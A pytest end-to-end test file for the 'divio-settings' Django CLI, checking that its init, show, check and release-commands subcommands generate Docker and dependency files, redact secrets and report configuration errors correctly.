from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable
from importlib import metadata
from pathlib import Path

import pytest
import yaml
from django.core.exceptions import ImproperlyConfigured

from divio_settings.cli import main
from divio_settings.cli.init import GATEWAYS
from tests.helpers import LIVE_ENV, LIVE_KEY, child_env, run_tool

# Every test runs the command (or a server it starts) in a child process.
pytestmark = pytest.mark.e2e

ROOT = Path(__file__).parent.parent


@pytest.fixture
def project(tmp_path: Path, new_project: Callable[[Path], Path]) -> Path:
    return new_project(tmp_path)


def server_arguments(project: Path, command: str, env: dict[str, str]) -> str:
    """What the CMD's server would be started with: the command run by /bin/sh (as Docker runs
    a CMD in shell form), the server replaced by a script that prints its arguments."""
    bin_dir = project / "fake-bin"
    bin_dir.mkdir(exist_ok=True)
    for server in GATEWAYS:
        fake = bin_dir / server
        fake.write_text(f'#!/bin/sh\necho {server} "$@"\n')
        fake.chmod(0o755)
    result = subprocess.run(
        ["/bin/sh", "-c", command],
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", **env},
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout.strip()


@pytest.mark.parametrize("database", ["postgres", "mysql"])
@pytest.mark.parametrize("gateway", sorted(GATEWAYS))
def test_init_writes_the_guide_files(project, database, gateway, capsys):
    assert main(["init", str(project), "--database", database, "--gateway", gateway]) == 0
    dockerfile = (project / "Dockerfile").read_text()
    assert dockerfile.startswith("# Built by Divio")
    assert "FROM python:3.13-slim-bookworm" in dockerfile
    assert "WORKDIR /app" in dockerfile
    assert "RUN python manage.py collectstatic --noinput" in dockerfile
    assert "EXPOSE 80" in dockerfile
    assert not [line for line in dockerfile.splitlines() if line.startswith("ENTRYPOINT")]
    cmd = [line for line in dockerfile.splitlines() if line.startswith("CMD ")]
    assert len(cmd) == 1
    # The shell the Dockerfile's CMD runs in, with stand-ins that print what they were given.
    assert (
        server_arguments(project, cmd[0][4:], {})
        == {
            "gunicorn": "gunicorn --bind=0.0.0.0:80 --forwarded-allow-ips=* --workers=1 --timeout=30 --max-requests=0 mysite.wsgi",
            "uvicorn": "uvicorn --host=0.0.0.0 --port=80 --proxy-headers --forwarded-allow-ips=* --workers=1 mysite.asgi:application",
            "uwsgi": "uwsgi --http=0.0.0.0:80 --module=mysite.wsgi --master --die-on-term --processes=1 --harakiri=0 --max-requests=0",
        }[gateway]
    )
    aldryn = {
        "DJANGO_WEB_WORKERS": "4",
        "DJANGO_WEB_TIMEOUT": "90",
        "DJANGO_WEB_MAX_REQUESTS": "500",
    }
    honoured = server_arguments(project, cmd[0][4:], aldryn)
    assert {
        "gunicorn": ["--workers=4", "--timeout=90", "--max-requests=500"],
        "uvicorn": ["--workers=4"],
        "uwsgi": ["--processes=4", "--harakiri=90", "--max-requests=500"],
    }[gateway] == [part for part in honoured.split() if part.split("=")[-1] in ("4", "90", "500")]
    concurrency = server_arguments(project, cmd[0][4:], {"WEB_CONCURRENCY": "3"})
    assert {"--workers=3", "--processes=3"} & set(concurrency.split())
    compose = yaml.safe_load((project / "docker-compose.yml").read_text())
    web, db = compose["services"]["web"], compose["services"]["database_default"]
    assert web["env_file"] == ".env-local"
    assert web["volumes"] == [".:/app:rw", "./data:/data:rw"]
    assert web["ports"] == ["8000:80"]
    assert ".:/app:rw" in db["volumes"]
    assert db["environment"]["SERVICE_MANAGER"] == f"fsm-{database}"
    assert db["image"].startswith({"postgres": "postgres:", "mysql": "mysql:"}[database])
    env_local = dict(
        line.split("=", 1) for line in (project / ".env-local").read_text().splitlines()
    )
    assert env_local["DATABASE_URL"].startswith(f"{database}://")
    assert env_local["DEFAULT_STORAGE_DSN"] == "file:///data/media/?url=%2Fmedia%2F"
    assert env_local["SECURE_SSL_REDIRECT"] == "False"
    requirements = (project / "requirements.txt").read_text().splitlines()
    assert requirements[0] == f"divio-settings[{database},s3]=={metadata.version('divio-settings')}"
    assert requirements[1] == GATEWAYS[gateway][0]
    assert "divio_settings.apply(globals())" in (project / "mysite" / "settings.py").read_text()
    assert "media_urlpatterns()" in (project / "mysite" / "urls.py").read_text()
    assert "/staticfiles" in (project / ".gitignore").read_text().splitlines()


def test_init_twice_changes_nothing(project, capsys):
    assert main(["init", str(project)]) == 0
    before = {path: path.read_text() for path in project.rglob("*") if path.is_file()}
    capsys.readouterr()
    assert main(["init", str(project)]) == 0
    assert capsys.readouterr().out == (
        "nothing to do: the project is already set up\n"
        "settings module: mysite.settings (the WSGI/ASGI entry point's)\n"
    )
    assert {path: path.read_text() for path in project.rglob("*") if path.is_file()} == before


def test_init_keeps_existing_requirements_and_gitignore(project):
    (project / "requirements.txt").write_text("Django==5.2\ngunicorn>=20")
    (project / ".gitignore").write_text("*.pyc\n/node_modules")
    assert main(["init", str(project)]) == 0
    assert (project / "requirements.txt").read_text().splitlines() == [
        "Django==5.2",
        "gunicorn>=20",
        next(
            line
            for line in (project / "requirements.txt").read_text().splitlines()
            if line.startswith("divio-settings")
        ),
    ]
    ignore = (project / ".gitignore").read_text().splitlines()
    assert ignore[:2] == ["*.pyc", "/node_modules"]
    assert ignore.count("*.pyc") == 1


def test_init_never_overwrites_without_force(project, capsys):
    (project / "Dockerfile").write_text("FROM mine\n")
    assert main(["init", str(project)]) == 1
    assert capsys.readouterr().err == (
        "divio-settings: Dockerfile already exists and differs; see --dry-run, then use --force "
        "(replace) or --keep-docker (keep the project's Docker files, wire the rest)\n"
    )
    assert (project / "Dockerfile").read_text() == "FROM mine\n"
    assert not (project / ".env-local").exists()
    assert main(["init", str(project), "--force"]) == 0
    assert (project / "Dockerfile").read_text().startswith("# Built by Divio")


def test_dry_run_prints_a_diff_and_writes_nothing(project, capsys):
    settings_before = (project / "mysite" / "settings.py").read_text()
    assert main(["init", str(project), "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "--- a/Dockerfile\n+++ b/Dockerfile\n" in out
    assert "+divio_settings.apply(globals())\n" in out
    assert not (project / "Dockerfile").exists()
    assert (project / "mysite" / "settings.py").read_text() == settings_before


def test_init_without_package_metadata_pins_nothing(project, monkeypatch, capsys):
    def not_installed(name: str) -> str:
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(metadata, "version", not_installed)
    assert main(["init", str(project)]) == 1
    assert capsys.readouterr().err == (
        "divio-settings: divio-settings is not installed (no package metadata): "
        "pip install it first\n"
    )
    assert not (project / "requirements.txt").exists()
    assert main(["--version"]) == 1


def test_init_outside_a_project_is_one_line(tmp_path, capsys):
    assert main(["init", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("divio-settings: no manage.py in ")
    assert err.count("\n") == 1


def run_cli(*args: str, env: dict[str, str], cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    full = {**child_env(), "PYTHONPATH": str(ROOT), **env}
    return subprocess.run(
        [sys.executable, "-m", "divio_settings", *args],
        env=full,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_show_explains_every_setting_with_secrets_redacted(project):
    assert main(["init", str(project)]) == 0
    result = run_cli("show", str(project), "--json", env=dict(LIVE_ENV))
    assert result.returncode == 0, result.stderr
    rows = {row["setting"]: row for row in json.loads(result.stdout)}
    assert rows["DEBUG"] == {
        "setting": "DEBUG",
        "value": False,
        "source": "default in the cloud (DJANGO_DEBUG unset)",
    }
    # Not the key: a fingerprint to compare containers with.
    from divio_settings.redaction import fingerprint

    assert rows["SECRET_KEY"]["value"] == f"******** ({fingerprint(LIVE_KEY)})"
    for secret in (LIVE_KEY, "OIut5vYvWjI3UQzc", "t62LdAvROXgFR14"):
        assert secret not in result.stdout
    table = run_cli("show", str(project), env=dict(LIVE_ENV))
    assert "ALLOWED_HOSTS" in table.stdout
    assert "<- DOMAIN, DOMAIN_ALIASES, DOMAIN_REDIRECTS" in table.stdout
    assert LIVE_KEY not in table.stdout


def test_show_with_env_file(project):
    assert main(["init", str(project)]) == 0
    result = run_cli(
        "show", "--env-file", str(project / ".env-local"), "--json", env={}, cwd=project
    )
    rows = {row["setting"]: row for row in json.loads(result.stdout)}
    assert rows["MEDIA_ROOT"]["value"] == "/data/media/"
    assert rows["DEBUG"]["value"] is True


def test_show_reports_bad_variables_as_one_line_each(project):
    assert main(["init", str(project)]) == 0
    result = run_cli(
        "show",
        str(project),
        env={"DJANGO_DEBUG": "maybe", "DATABASE_URL": "postgres://u:hunter2@h:x/db"},
    )
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "divio-settings: DJANGO_DEBUG: expected true or false (also 1/0, yes/no, on/off); got 'maybe'",
        "DATABASE_URL: expected a URL like postgres://user:password@host:5432/name; the host or port cannot be read; percent-encode special characters in the user name and password (# as %23, / as %2F, @ as %40, : as %3A, ? as %3F)",
    ]
    assert "Traceback" not in result.stderr


def test_show_without_apply(project):
    result = run_cli("show", str(project), env={})
    assert result.returncode == 1
    assert (
        result.stderr
        == "divio-settings: mysite.settings does not call divio_settings.apply(globals())\n"
    )


def test_check_valid_and_invalid_environments():
    ok = run_cli("check", env=dict(LIVE_ENV))
    assert ok.returncode == 0
    assert ok.stdout == "the environment's variables are valid\n"
    # No CACHE_URL: apply() gives the cloud the shared database cache, so nothing to say.
    assert ok.stderr == ""
    # What the cloud lacks is said by the library's own checks on what apply() computes.
    bare = {k: v for k, v in LIVE_ENV.items() if k not in ("DATABASE_URL", "DEFAULT_STORAGE_DSN")}
    lacking = run_cli("check", env=bare)
    assert lacking.returncode == 0
    ids = re.findall(r"^warning: (divio_settings\.\w+):", lacking.stderr, re.MULTILINE)
    assert ids == ["divio_settings.W005", "divio_settings.W006"], lacking.stderr
    assert "    hint: Add a database service so that DATABASE_URL is set." in lacking.stderr
    # An error-level check of the computed settings fails the command (DEBUG in live).
    debug = run_cli("check", env={**LIVE_ENV, "DJANGO_DEBUG": "True"})
    assert debug.returncode == 1
    assert "error: divio_settings.E002: DEBUG is on in the live environment." in debug.stderr
    bad = run_cli(
        "check", env={**LIVE_ENV, "SECRET_KEY": "", "DEFAULT_STORAGE_DSN": "s3://K:topsecret@/"}
    )
    assert bad.returncode == 1
    lines = bad.stderr.splitlines()
    assert lines[0].startswith("error: SECRET_KEY: expected a secret key")
    assert lines[1].startswith("error: DEFAULT_STORAGE_DSN: expected a storage DSN")
    assert "topsecret" not in bad.stderr


def test_check_says_what_apply_says():
    """One line per bad variable (also several in one group), Sentry's DSN validated, and
    DEFAULT_DATABASE_DSN counts as the default database."""
    import divio_settings

    bad = {
        **LIVE_ENV,
        "DJANGO_DEBUG": "maybe",
        "SECURE_HSTS_SECONDS": "soon",
        "DATABASE_URL": "nope",
        "CACHE_URL": "nope",
        "SENTRY_DSN": "not a dsn",
    }
    result = run_cli("check", env=bad)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 5
    with pytest.raises(ImproperlyConfigured) as error:
        divio_settings.apply({"__file__": "/app/x/settings.py"}, environ=bad)
    assert lines == [f"error: {line}" for line in str(error.value).splitlines()]
    env = {k: v for k, v in LIVE_ENV.items() if k != "DATABASE_URL"}
    env["DEFAULT_DATABASE_DSN"] = LIVE_ENV["DATABASE_URL"]
    assert "database" not in run_cli("check", env=env).stderr


def test_check_env_file_errors(tmp_path):
    env_file = tmp_path / ".env-local"
    env_file.write_text("# comment\n\nexport DJANGO_DEBUG=True\nbroken line\n")
    result = run_cli("check", "--env-file", str(env_file), env={})
    assert result.returncode == 1
    assert result.stderr == f"divio-settings: {env_file}, line 4: expected NAME=value\n"
    missing = run_cli("check", "--env-file", str(tmp_path / "nope"), env={})
    assert missing.stderr.startswith("divio-settings: cannot read ")


def test_release_commands():
    assert run_cli("release-commands", env={}).stdout == (
        "python manage.py migrate\npython manage.py preflight\n"
    )
    result = run_cli("release-commands", env={"CACHE_URL": "db://django_dbcache"})
    assert result.stdout.splitlines() == [
        "python manage.py createcachetable",
        "python manage.py migrate",
        "python manage.py preflight",
    ]
    # The cloud without CACHE_URL gets the shared database cache: its table first.
    # (and LIVE_ENV's S3 media: the static files of every version published, for rolling deploys)
    cloud = run_cli("release-commands", env=dict(LIVE_ENV))
    assert cloud.stdout.splitlines() == [
        "python manage.py createcachetable",
        "python manage.py migrate",
        "python manage.py publish_static",
        "python manage.py preflight",
    ]
    redis = run_cli("release-commands", env={**LIVE_ENV, "CACHE_URL": "redis://h:6379/0"})
    assert redis.stdout.splitlines() == [
        "python manage.py migrate",
        "python manage.py publish_static",
        "python manage.py preflight",
    ]
    # Decided as apply() decides DIVIO_STATIC_FALLBACK (a scheme in capitals too).
    for dsn in (
        "s3://K:s3cr3t-key@bucket.s3.amazonaws.com/",
        "S3://K:s3cr3t-key@bucket.s3.amazonaws.com/",
        "az://account:accountkey@account.blob.core.windows.net/c",
    ):
        shared = run_cli("release-commands", env={**LIVE_ENV, "DEFAULT_STORAGE_DSN": dsn})
        assert shared.stdout.splitlines()[-3:] == [
            "python manage.py migrate",
            "python manage.py publish_static",
            "python manage.py preflight",
        ], shared.stderr
    files = run_cli("release-commands", env={"DEFAULT_STORAGE_DSN": "file:///data/media/"})
    assert files.stdout == "python manage.py migrate\npython manage.py preflight\n"
    # Any spelling apply() accepts for the database cache (#28: DB:// was missed).
    for url in ("DB://django_dbcache", "dbcache://t", "Db://t"):
        upper = run_cli("release-commands", env={"CACHE_URL": url})
        assert upper.stdout.splitlines()[0] == "python manage.py createcachetable", url
    bad = run_cli("release-commands", env={"CACHE_URL": "nope"})
    assert bad.returncode == 1
    assert bad.stderr.startswith("divio-settings: CACHE_URL: expected")


def test_help_and_version():
    result = run_cli("--help", env={})
    assert result.returncode == 0
    assert "Exit codes" in result.stdout
    for command in ("init", "show", "check", "release-commands"):
        assert command in result.stdout
        sub = run_cli(command, "--help", env={})
        assert sub.returncode == 0
    version = run_cli("--version", env={})
    assert version.returncode == 0
    assert version.stdout == f"divio-settings {metadata.version('divio-settings')}\n"
    assert run_cli("frobnicate", env={}).returncode == 2


def test_show_variables_prints_the_registry():
    from divio_settings import variables

    result = run_cli("show", "--variables", "--json", env={})
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout)
    assert [row["name"] for row in rows] == [variable.name for variable in variables.VARIABLES]
    by_name = {row["name"]: row for row in rows}
    assert by_name["DATABASE_URL"]["secret"] is True
    assert by_name["DATABASE_URL"]["group"] == "databases"
    assert by_name["DOMAIN"]["sets"][:3] == [
        "ALLOWED_HOSTS",
        "CSRF_TRUSTED_ORIGINS",
        "DIVIO_DOMAIN",
    ]
    assert by_name["DOMAIN"]["example"] == "www.example.com"
    text = run_cli("show", "--variables", env={}).stdout
    assert "DATABASE_URL  (databases: URL, secret)" in text
    assert text.count("\n    default: ") == len(variables.VARIABLES)


def test_load_report_leaves_the_process_as_it_was(project, monkeypatch):
    import os

    from divio_settings.cli.show import load_report

    assert main(["init", str(project)]) == 0
    monkeypatch.setenv("KEEP_ME", "1")
    environ, path, modules = dict(os.environ), list(sys.path), set(sys.modules)
    report = load_report(project, dict(LIVE_ENV), "mysite.settings")
    assert any(row["setting"] == "ALLOWED_HOSTS" for row in report)
    assert dict(os.environ) == environ
    assert sys.path == path
    assert "mysite.settings" not in sys.modules
    assert set(sys.modules) - modules <= {m for m in sys.modules if not m.startswith("mysite")}


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        (
            ImproperlyConfigured("CACHE_URL: expected a URL"),
            "divio-settings: CACHE_URL: expected a URL\n",
        ),
        (PermissionError(13, "Permission denied"), "divio-settings: Permission denied\n"),
        (
            KeyError("redis://u:hunter2secret@h:6379/0"),
            "divio-settings: unexpected error: KeyError: 'redis://u:********@h:6379/0'\n",
        ),
    ],
)
def test_every_failure_is_one_line_without_a_traceback(monkeypatch, capsys, error, expected):
    from divio_settings.cli import show

    def failing(args):
        raise error

    monkeypatch.setattr(show, "run_check", failing)
    assert main(["check"]) == 1
    assert capsys.readouterr().err == expected


def test_a_closed_pipe_ends_quietly(tmp_path):
    """`divio-settings show … | head`: the reader leaves, the command stops, no traceback."""
    import os
    import subprocess

    script = tmp_path / "big.py"
    script.write_text(
        f"import sys\nsys.path.insert(0, {str(ROOT)!r})\n"
        "from divio_settings.cli import main, show\n"
        "def big(args):\n    for _ in range(100_000):\n        print('x' * 80)\n    return 0\n"
        "show.run_show = big\nsys.exit(main(['show']))\n"
    )
    reader = subprocess.run(
        [
            "bash",
            "-c",
            f"{sys.executable} {script} | head -c 10 > /dev/null; echo ${{PIPESTATUS[0]}}",
        ],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ},
    )
    assert reader.stderr == ""
    assert reader.stdout.strip() == "1"


@pytest.fixture
def split_project(tmp_path: Path, new_project: Callable[[Path], Path]) -> Path:
    """The Wagtail shape: mysite/settings/ with base.py (ROOT_URLCONF, a committed key) and
    dev.py / production.py star-importing it; manage.py loads dev, wsgi.py production."""
    new_project(tmp_path)
    package = tmp_path / "mysite" / "settings"
    package.mkdir()
    (package / "__init__.py").write_text("")
    base = (tmp_path / "mysite" / "settings.py").read_text()
    base = base.replace(
        "BASE_DIR = Path(__file__).resolve().parent.parent",
        "BASE_DIR = Path(__file__).resolve().parent.parent.parent",
    )
    (package / "base.py").write_text(base)
    (tmp_path / "mysite" / "settings.py").unlink()
    (package / "dev.py").write_text("from .base import *  # noqa\n\nDEBUG = True\n")
    (package / "production.py").write_text(
        "from .base import *  # noqa\n\nDEBUG = False\nLOGGING = {'version': 1}\n"
    )
    for name, module in (("manage.py", "dev"), ("mysite/wsgi.py", "production")):
        path = tmp_path / name
        path.write_text(path.read_text().replace("mysite.settings", f"mysite.settings.{module}"))
    return tmp_path


def test_init_wires_the_module_the_wsgi_entry_point_loads(split_project, capsys):
    """apply() goes into production.py (what gunicorn loads), ROOT_URLCONF is found through the
    star import of base.py, and the project's real urls.py gets the media lines."""
    assert main(["init", str(split_project)]) == 0
    out = capsys.readouterr().out
    assert "settings module: mysite.settings.production (the WSGI/ASGI entry point's)" in out
    assert "manage.py loads mysite.settings.dev: add the two lines" in out
    production = (split_project / "mysite" / "settings" / "production.py").read_text()
    assert production.rstrip().endswith("divio_settings.apply(globals())")
    assert "divio_settings" not in (split_project / "mysite" / "settings" / "dev.py").read_text()
    # The build's collectstatic, the release commands and the server read the same module.
    assert (
        "ENV DJANGO_SETTINGS_MODULE=mysite.settings.production\n"
        in (split_project / "Dockerfile").read_text()
    )
    assert "media_urlpatterns()" in (split_project / "mysite" / "urls.py").read_text()
    assert not (split_project / "mysite" / "settings" / "urls.py").exists()
    # The compose runserver keeps manage.py's development module: the image's ENV would win
    # over manage.py's setdefault (#33, item 8).
    compose = yaml.safe_load((split_project / "docker-compose.yml").read_text())
    assert compose["services"]["web"]["environment"] == {
        "DJANGO_SETTINGS_MODULE": "mysite.settings.dev"
    }
    # --settings chooses; DJANGO_SETTINGS_MODULE too.
    # (The Dockerfile changes with it: no ENV line for manage.py's own module.)
    assert main(["init", str(split_project), "--settings", "mysite.settings.dev", "--force"]) == 0
    assert "divio_settings.apply" in (split_project / "mysite" / "settings" / "dev.py").read_text()


def test_init_refuses_a_package_that_disagrees_with_itself(split_project, capsys, monkeypatch):
    """Not importable here (a variable it requires is missing) and two ROOT_URLCONFs: init
    cannot decide, says why in one line, and writes nothing."""
    settings = split_project / "mysite" / "settings"
    (settings / "base.py").write_text(
        (settings / "base.py").read_text() + "\nimport os\nos.environ['REQUIRED_BY_THE_PROJECT']\n"
    )
    (settings / "dev.py").write_text(
        (settings / "dev.py").read_text() + "ROOT_URLCONF = 'mysite.other_urls'\n"
    )
    monkeypatch.delenv("REQUIRED_BY_THE_PROJECT", raising=False)
    before = {p: p.read_bytes() for p in split_project.rglob("*") if p.is_file()}
    assert main(["init", str(split_project)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("divio-settings: the settings package sets ROOT_URLCONF differently")
    assert err.count("\n") == 1
    assert {p: p.read_bytes() for p in split_project.rglob("*") if p.is_file()} == before


def test_show_explains_the_module_the_runtime_loads(split_project):
    assert main(["init", str(split_project)]) == 0
    dev = run_cli("show", str(split_project), "--json", env={})
    production = run_cli(
        "show",
        str(split_project),
        "--json",
        env={"DJANGO_SETTINGS_MODULE": "mysite.settings.production"},
    )
    flag = run_cli(
        "show", str(split_project), "--settings", "mysite.settings.production", "--json", env={}
    )
    assert dev.returncode == 1  # dev.py has no apply(): said in one line
    assert (
        dev.stderr
        == "divio-settings: mysite.settings.dev does not call divio_settings.apply(globals())\n"
    )
    assert production.returncode == 0, production.stderr
    assert production.stdout == flag.stdout


def test_show_changes_lists_before_after_kept_and_ignored(split_project):
    """The moving user's diff: every setting apply() changed (old -> new, source), settings.py's
    values kept although a variable was set, settings.py's bucket the DSN replaces, and the
    variables nobody reads; no secret."""
    production = split_project / "mysite" / "settings" / "production.py"
    production.write_text(production.read_text() + "AWS_STORAGE_BUCKET_NAME = 'old-bucket'\n")
    assert main(["init", str(split_project)]) == 0
    env = {
        **LIVE_ENV,
        "DJANGO_SETTINGS_MODULE": "mysite.settings.production",
        "LOG_LEVEL": "DEBUG",
        "DEBUG": "True",
        "SECRET_KEY": LIVE_KEY,
    }
    result = run_cli("show", str(split_project), "--changes", "--json", env=env)
    assert result.returncode == 0, result.stderr
    found = json.loads(result.stdout)
    changed = {row["setting"]: row for row in found["changed"]}
    assert "DEBUG" not in changed  # production.py's False, and False in the cloud: no change
    assert changed["ALLOWED_HOSTS"]["before"] == []
    assert changed["SECRET_KEY"]["after"].startswith("********")
    assert changed["SECRET_KEY"]["source"] == "SECRET_KEY"
    assert found["kept"] == [
        {
            "setting": "LOGGING",
            "value": {"version": 1},
            "reason": "settings.py defines LOGGING; LOG_LEVEL is not applied",
        }
    ]
    assert found["ignored"] == [{"variable": "DEBUG", "instead": "DJANGO_DEBUG"}]
    assert found["replaced"] == [
        {
            "setting": "AWS_STORAGE_BUCKET_NAME",
            "reason": "not read: DEFAULT_STORAGE_DSN configures the storage; say it there as "
            "the DSN's host",
        }
    ]
    for secret in (LIVE_KEY, "OIut5vYvWjI3UQzc", "t62LdAvROXgFR14"):
        assert secret not in result.stdout
    text = run_cli("show", str(split_project), "--changes", env=env)
    assert "LOGGING  kept: settings.py defines LOGGING; LOG_LEVEL is not applied" in text.stdout
    assert "DEBUG  ignored: nobody reads it; use DJANGO_DEBUG" in text.stdout
    assert (
        "AWS_STORAGE_BUCKET_NAME  replaced: not read: DEFAULT_STORAGE_DSN configures the storage; "
        "say it there as the DSN's host" in text.stdout
    )
    assert LIVE_KEY not in text.stdout


def test_check_runs_the_system_checks_of_the_project(project):
    """In a project, `divio-settings check` says what `manage.py check` says: here a settings.py
    that points Celery at localhost in the cloud (a plain check, no --deploy)."""
    assert main(["init", str(project)]) == 0
    settings = project / "mysite" / "settings.py"
    text = settings.read_text()
    settings.write_text(
        text.replace(
            "import divio_settings",
            "CELERY_BROKER_URL = 'redis://localhost:6379/0'\nimport divio_settings",
        )
    )
    # SQLite: no database driver needed (W006 says the cloud should not use it).
    env = {
        **LIVE_ENV,
        "CACHE_URL": "redis://cache.example.com:6379/0",
        "DATABASE_URL": f"sqlite:///{project / 'db.sqlite3'}",
    }
    ours = run_cli("check", str(project), env=env)
    django_check = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=project,
        env={**child_env(), "PYTHONPATH": str(ROOT), **env},
        capture_output=True,
        text=True,
    )
    assert ours.returncode == django_check.returncode == 0
    assert "divio_settings.W015" in django_check.stderr
    assert django_check.stderr in ours.stderr
    # An error-level check fails the command.
    live_debug = run_cli("check", str(project), env={**env, "DJANGO_DEBUG": "true"})
    assert live_debug.returncode == 1
    assert "divio_settings.E002" in live_debug.stderr


def test_release_commands_follow_the_project_s_caches(project):
    """settings.py's own Redis CACHES: no cache table, although the cloud default would need
    one; a settings.py DatabaseCache needs it without any CACHE_URL."""
    assert main(["init", str(project)]) == 0
    settings = project / "mysite" / "settings.py"
    original = settings.read_text()
    redis = "CACHES = {'default': {'BACKEND': 'django.core.cache.backends.redis.RedisCache', 'LOCATION': 'redis://r:6379/0'}}\n"
    settings.write_text(original.replace("import divio_settings", redis + "import divio_settings"))
    cloud = run_cli("release-commands", str(project), env=dict(LIVE_ENV))
    assert cloud.stdout.splitlines() == [
        "python manage.py migrate",
        "python manage.py publish_static",
        "python manage.py preflight",
    ], cloud.stderr
    table = "CACHES = {'default': {'BACKEND': 'django.core.cache.backends.db.DatabaseCache', 'LOCATION': 't'}}\n"
    settings.write_text(original.replace("import divio_settings", table + "import divio_settings"))
    local = run_cli("release-commands", str(project), env={})
    assert local.stdout.splitlines() == [
        "python manage.py createcachetable",
        "python manage.py migrate",
        "python manage.py preflight",
    ]
    # The project's DIVIO_STATIC_FALLBACK decides, not the DSN alone.
    s3 = {**LIVE_ENV, "DEFAULT_STORAGE_DSN": "s3://K:s3cr3t-key@bucket.s3.amazonaws.com/"}
    assert run_cli("release-commands", str(project), env=s3).stdout.endswith(
        "migrate\npython manage.py publish_static\npython manage.py preflight\n"
    )
    off = "DIVIO_STATIC_FALLBACK = False\n"
    settings.write_text(original.replace("import divio_settings", off + "import divio_settings"))
    assert run_cli("release-commands", str(project), env=s3).stdout.endswith(
        "migrate\npython manage.py preflight\n"
    )
    # Static names without hashes (settings.py's own storage): nothing publish_static could do.
    plain = (
        "STORAGES = {'default': {'BACKEND': 'django.core.files.storage.FileSystemStorage'}, "
        "'staticfiles': {'BACKEND': 'django.contrib.staticfiles.storage.StaticFilesStorage'}}\n"
    )
    settings.write_text(original.replace("import divio_settings", plain + "import divio_settings"))
    assert run_cli("release-commands", str(project), env=s3).stdout.endswith(
        "migrate\npython manage.py preflight\n"
    )
    # The project's own hashing storage (a subclass in its code) counts.
    (project / "mysite" / "storage.py").write_text(
        "from django.contrib.staticfiles.storage import ManifestStaticFilesStorage\n"
        "class Hashed(ManifestStaticFilesStorage):\n    pass\n"
    )
    own = plain.replace(
        "django.contrib.staticfiles.storage.StaticFilesStorage", "mysite.storage.Hashed"
    )
    settings.write_text(original.replace("import divio_settings", own + "import divio_settings"))
    assert run_cli("release-commands", str(project), env=s3).stdout.endswith(
        "publish_static\npython manage.py preflight\n"
    )


def test_init_follows_a_requirements_folder(project, capsys):
    """cookiecutter-django's shape: the image installs requirements/production.txt (which
    includes base.txt), and the library's pin goes there; no root requirements.txt appears."""
    folder = project / "requirements"
    folder.mkdir()
    (folder / "base.txt").write_text("django>=5.2\ndjango-environ==0.12.0\n")
    (folder / "local.txt").write_text("-r base.txt\ndjango-debug-toolbar\n")
    (folder / "production.txt").write_text("-r base.txt\ngunicorn==23.0.0\n")
    assert main(["init", str(project)]) == 0
    assert not (project / "requirements.txt").exists()
    production = (folder / "production.txt").read_text().splitlines()
    assert production[:2] == ["-r base.txt", "gunicorn==23.0.0"]
    assert production[2].startswith("divio-settings[postgres,s3]==")
    assert len(production) == 3  # gunicorn is listed already
    dockerfile = (project / "Dockerfile").read_text()
    assert "COPY requirements /app/requirements\n" in dockerfile
    assert "RUN pip install --no-cache-dir -r requirements/production.txt\n" in dockerfile
    assert (folder / "local.txt").read_text() == "-r base.txt\ndjango-debug-toolbar\n"


@pytest.mark.parametrize(
    ("files", "message"),
    [
        (
            {"pyproject.toml": '[project]\nname = "site"\n', "uv.lock": "version = 1\n"},
            "divio-settings: the project's dependencies are locked in uv.lock: add them first "
            "(uv add 'divio-settings[postgres,s3]==",
        ),
        (
            {"pyproject.toml": "[tool.poetry]\n", "poetry.lock": "# lock\n"},
            "divio-settings: the project declares its dependencies in poetry.lock: export them",
        ),
        (
            {"requirements/a.txt": "x\n", "requirements/b.txt": "y\n"},
            "divio-settings: requirements/ has 2 files and none is named production.txt",
        ),
    ],
)
def test_init_refuses_dependencies_it_would_not_install(
    project, capsys, files, message, monkeypatch
):
    for name, text in files.items():
        (project / name).parent.mkdir(exist_ok=True)
        (project / name).write_text(text)
    monkeypatch.setattr(sys, "dont_write_bytecode", False)  # as in a user's shell
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    assert main(["init", str(project)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(message)
    assert err.count("\n") == 1
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == before


def test_a_pyproject_without_dependencies_gets_requirements_txt(project):
    (project / "pyproject.toml").write_text("[tool.ruff]\nline-length = 100\n")
    assert main(["init", str(project)]) == 0
    assert (project / "requirements.txt").read_text().startswith("divio-settings[postgres,s3]==")


PYPROJECT = """[project]
name = "site"
version = "1"
dependencies = [
    "django>=5.2",  # the framework
    "divio-settings[s3]==0.0.1"
]

[dependency-groups]
dev = ["pytest"]
"""


def test_init_follows_pyproject_dependencies(project):
    """[project] dependencies: the pin and the gateway go there (the file's own lines kept),
    and the image installs exactly them, read with tomllib, without building the project."""
    (project / "pyproject.toml").write_text(PYPROJECT)
    assert main(["init", str(project)]) == 0
    assert not (project / "requirements.txt").exists()
    text = (project / "pyproject.toml").read_text()
    version = metadata.version("divio-settings")
    assert f'    "divio-settings[postgres,s3]=={version}",\n' in text
    assert '    "django>=5.2",  # the framework\n' in text
    assert '    "gunicorn==27.0.1",\n' in text
    assert 'dev = ["pytest"]' in text
    dockerfile = (project / "Dockerfile").read_text()
    step = re.search(r"^RUN (python -c .+?) > /tmp/requirements.txt", dockerfile, re.M)
    assert step
    assert main(["init", str(project)]) == 0
    assert (project / "pyproject.toml").read_text() == text  # twice changes nothing
    if sys.version_info < (3, 11):
        pytest.skip("the image's Python (3.11+) reads pyproject.toml with tomllib; this one can't")
    listed = subprocess.run(
        ["/bin/sh", "-c", step.group(1).replace("python", sys.executable, 1)],
        cwd=project,
        capture_output=True,
        text=True,
        check=True,
    )
    assert listed.stdout.splitlines() == [
        "django>=5.2",
        f"divio-settings[postgres,s3]=={version}",
        "gunicorn==27.0.1",
    ]


